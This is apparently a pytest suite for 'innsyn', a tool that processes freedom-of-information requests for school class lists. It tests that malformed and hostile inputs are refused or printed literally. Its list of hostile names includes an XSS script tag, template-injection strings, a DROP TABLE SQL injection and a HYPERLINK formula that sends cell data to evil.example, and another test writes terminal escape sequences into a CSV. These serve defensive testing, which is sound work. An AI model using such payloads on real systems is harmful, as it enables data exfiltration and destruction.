"""Hostile and broken input, through the installed `innsyn` command.

Every input in tests/bad_input/ is listed in tests/bad_input/expected.toml with exactly what
must happen to it. A refused input exits 2 with one line on stderr that says what and where,
prints no traceback and writes nothing: no case, no file, the database unchanged. An input
that only looks hostile (a byte order mark, markup or a formula in a name) is handled as the
data it is, and printed literally.
"""

from __future__ import annotations

import json
import shutil
import tomllib
from pathlib import Path

import pytest

from conftest import canary_export, dump_tables, innsyn, insert_case, pdf_text, squeeze, write_request
from innsyn import db as innsyn_db

CORPUS = Path(__file__).parent / "bad_input"
EXPECTED = tomllib.loads((CORPUS / "expected.toml").read_text(encoding="utf-8"))


# ----------------------------------------------------------------------------- inputs made here


def _huge_request(path: Path) -> None:
    """A well-formed request padded past the size limit."""
    write_request(path, padding="x" * 1_200_000)


def _device(path: Path) -> None:
    """A request "file" that never ends."""
    path.symlink_to("/dev/zero")


def _request_id_collision(path: Path) -> None:
    """Request "2026-1" where case 2026-1 is already request "2026/1": one case number, two requests."""
    with innsyn_db.open_db(path.parent / "innsyn.duckdb") as con:
        insert_case(con, "2026-1", "2026-11-20T09:00:00+01:00")  # its request_id is "2026/1"
    write_request(path, request_id="2026-1")


def _line_of_3_megabytes(folder: Path) -> None:
    students = folder / "students.csv"
    text = students.read_text(encoding="utf-8")
    students.write_text(text.replace("E2,S001-5B,Ánte,", "E2,S001-5B," + "Á" * 3_000_000 + ",", 1), encoding="utf-8")


def _replace_bytes(file: str, old: bytes, new: bytes):
    """An export whose `file` has `old` (which must be there) replaced by `new`, once: for bytes
    that are better not kept in a file of this repository (NUL, escape, stray line ends)."""
    def make(folder: Path) -> None:
        data = (folder / file).read_bytes()
        assert old in data, (file, old)
        (folder / file).write_bytes(data.replace(old, new, 1))
    return make


def _mixed_line_endings(folder: Path) -> None:
    students = folder / "students.csv"  # csv.writer wrote CRLF: the rows after the third end in LF
    head, _, tail = students.read_bytes().partition(b"E3,")
    students.write_bytes(head + b"E3," + tail.replace(b"\r\n", b"\n"))


GENERATED_REQUESTS = {"huge.json": _huge_request, "device.json": _device,
                      "request_id_collision.json": _request_id_collision}
GENERATED_EXPORTS = {
    "line_of_3_megabytes": _line_of_3_megabytes,
    "nul_in_name": _replace_bytes("students.csv", "E2,S001-5B,Ánte,".encode(), "E2,S001-5B,Án\x00te,".encode()),
    "terminal_escape_in_boolean": _replace_bytes("schools.csv", b",false", b",\x1b[2J\x1b]0;owned\x07false"),
    "mixed_line_endings": _mixed_line_endings,
}


# ----------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="session")
def good_db(tmp_path_factory, prefect_api_url) -> Path:
    """A database holding the canary export, imported through the CLI once per session."""
    workdir = tmp_path_factory.mktemp("good-db")
    result = innsyn(workdir, prefect_api_url, "db", "import", str(canary_export(workdir / "export")))
    assert result.returncode == 0, result.stderr
    return workdir / "innsyn.duckdb"


@pytest.fixture
def workdir(tmp_path: Path, good_db: Path) -> Path:
    """A working folder with its own copy of the good database."""
    shutil.copy(good_db, tmp_path / "innsyn.duckdb")
    return tmp_path


def request_file(name: str, folder: Path) -> Path:
    if name in GENERATED_REQUESTS:
        GENERATED_REQUESTS[name](folder / name)
        return folder / name
    return CORPUS / "requests" / name


def export_folder(name: str, folder: Path) -> Path:
    """The good export with the corpus folder's files laid over it."""
    export = canary_export(folder / "export")
    if name in GENERATED_EXPORTS:
        GENERATED_EXPORTS[name](export)
    else:
        for file in (CORPUS / "exports" / name).glob("*.csv"):
            shutil.copy(file, export / file.name)
    return export


def assert_refused(result, message: str) -> None:
    """Exit 2, one line on stderr that says what and where, no traceback, nothing on stdout."""
    assert result.returncode == 2, result.stderr + result.stdout
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("innsyn: error: "), lines[0]
    assert message in lines[0], lines[0]
    assert "Traceback" not in result.stderr and result.stdout == ""


# ----------------------------------------------------------------------------- the corpus


def test_every_input_in_the_corpus_has_an_expected_outcome():
    requests = {path.name for path in (CORPUS / "requests").iterdir()} | set(GENERATED_REQUESTS)
    exports = {path.name for path in (CORPUS / "exports").iterdir() if path.is_dir()} | set(GENERATED_EXPORTS)
    assert requests == set(EXPECTED["requests"])
    assert exports == set(EXPECTED["exports"])
    for entry in [*EXPECTED["requests"].values(), *EXPECTED["exports"].values()]:
        assert entry["exit"] in (0, 2)
        assert ("message" in entry) == (entry["exit"] == 2)
        if "checked_by" in entry:
            assert entry["checked_by"] in globals()


@pytest.mark.parametrize("name", sorted(EXPECTED["requests"]))
def test_a_hostile_request(name, workdir, prefect_api_url):
    expected = EXPECTED["requests"][name]
    request = request_file(name, workdir)
    before = (workdir / "innsyn.duckdb").read_bytes()

    result = innsyn(workdir, prefect_api_url, "process", str(request))

    if expected["exit"] == 2:
        assert_refused(result, expected["message"])
        assert (workdir / "innsyn.duckdb").read_bytes() == before
        assert not (workdir / "out").exists()
    else:
        assert result.returncode == 0, result.stderr
        case = json.loads(result.stdout)
        assert (case["status"], case["outcome"]) == (expected["status"], expected["outcome"])


@pytest.mark.parametrize("name", sorted(EXPECTED["exports"]))
def test_a_hostile_export(name, workdir, good_db, prefect_api_url):
    expected = EXPECTED["exports"][name]
    folder = export_folder(name, workdir)
    if expected["exit"] == 0:
        (workdir / "innsyn.duckdb").unlink()  # a good import goes into a new database
    before = dump_tables(good_db)

    result = innsyn(workdir, prefect_api_url, "db", "import", str(folder))

    if expected["exit"] == 2:
        assert_refused(result, expected["message"])
        assert dump_tables(workdir / "innsyn.duckdb") == before
        for value in expected.get("never_echoed", []):
            assert value not in result.stderr, value
    else:
        assert result.returncode == 0, result.stderr
        if expected.get("same_as_good"):
            assert dump_tables(workdir / "innsyn.duckdb") == before
    assert not (workdir / "out").exists()


# ----------------------------------------------------------------------------- handled, not refused

HOSTILE_NAMES = [
    "<b>Fet</b>", "<script>alert(1)</script>", "{{ 7*7 }}", "{% if true %}Mal{% endif %}",
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "Robert'); DROP TABLE students;--",
    "Anne &amp; Co", "${7*7}", "#{7*7} %(navn)s", "+SUM(1;2)", "@Eva", "-Veien 3", "O'Brien \"Nisse\"",
    "Gate <1>",
]


@pytest.fixture
def hostile(tmp_path: Path, prefect_api_url) -> Path:
    """A working folder whose database holds the export with hostile names."""
    result = innsyn(tmp_path, prefect_api_url, "db", "import", str(CORPUS / "exports" / "hostile_names"))
    assert result.returncode == 0, result.stderr
    return tmp_path


def process_class(workdir: Path, prefect_api_url: str, class_name: str) -> dict:
    request = write_request(workdir / f"{class_name}.json", request_id=f"2026/{class_name}",
                            scope={"school_id": "S001", "classes": [class_name]})
    result = innsyn(workdir, prefect_api_url, "process", str(request))
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_markup_templates_sql_and_formulas_in_names_are_printed_literally(hostile, prefect_api_url):
    case = process_class(hostile, prefect_api_url, "5B")

    assert (case["status"], case["outcome"]) == ("released", "innvilget")
    text = pdf_text(Path(case["public_pdf"]))
    for value in HOSTILE_NAMES:
        assert squeeze(value) in squeeze(text), value
    assert "49" not in text  # no template was evaluated: 7*7 stayed as written
    assert "Sagene skole <i>&amp;</i> {{ skole }}" in text  # the school's name too
    # the database still has its tables: the SQL in a name was stored, never run
    tables = dump_tables(hostile / "innsyn.duckdb")
    assert len(tables["students"]) == 6 and len(tables["cases"]) == 1


def test_a_class_without_pupils_is_answered_with_an_empty_list(hostile, prefect_api_url):
    case = process_class(hostile, prefect_api_url, "6A")

    assert (case["status"], case["outcome"], case["withheld_items"]) == ("released", "innvilget", 0)
    assert "Klasselisten har ingen oppføringer." in pdf_text(Path(case["public_pdf"]))


def test_a_class_where_every_pupil_is_withheld_is_refused_after_review(hostile, prefect_api_url):
    case = process_class(hostile, prefect_api_url, "7C")
    assert (case["status"], case["outcome"], case["public_pdf"]) == ("awaiting_review", "avslatt", None)

    approved = innsyn(hostile, prefect_api_url, "review", "approve", case["case_id"], "--reviewer", "Lise Jurist")

    assert approved.returncode == 0, approved.stderr
    public = squeeze(pdf_text(Path(json.loads(approved.stdout)["public_pdf"])))
    for withheld in ("Fortroligsen", "Fortroligsdatter", "Skjult", "Gjemt", "Skjult gate", "412 00 005"):
        assert squeeze(withheld) not in public, withheld
    assert "avslått" in public or "avslag" in public
